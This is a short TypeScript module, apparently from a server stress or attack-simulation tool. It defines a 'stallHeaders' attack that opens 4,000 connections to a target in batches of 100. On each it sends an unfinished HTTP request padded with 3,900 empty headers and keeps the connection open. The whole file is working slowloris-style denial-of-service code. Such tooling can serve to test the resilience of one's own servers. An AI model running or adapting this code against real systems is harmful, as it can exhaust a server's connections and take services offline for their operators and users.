import type { Attack } from './attack.ts';
import { withSockets, write } from './open-sockets.ts';

const connections = 4_000;
const atOnce = 100;

/** As many headers as the size limit allows. */
const headers = `GET / HTTP/1.1\r\n${'a:\r\n'.repeat(3_900)}`;

/** Sends 3,900 headers without an end on each of 4,000 connections, without a key. */
export const stallHeaders: Attack = (target) =>
  withSockets(target, async ({ open, untilOver, isOver }) => {
    for (let opened = 0; opened < connections && !isOver(); opened += atOnce) {
      await Promise.all(Array.from({ length: atOnce }, async () => write(await open(), headers)));
    }
    await untilOver();
  });
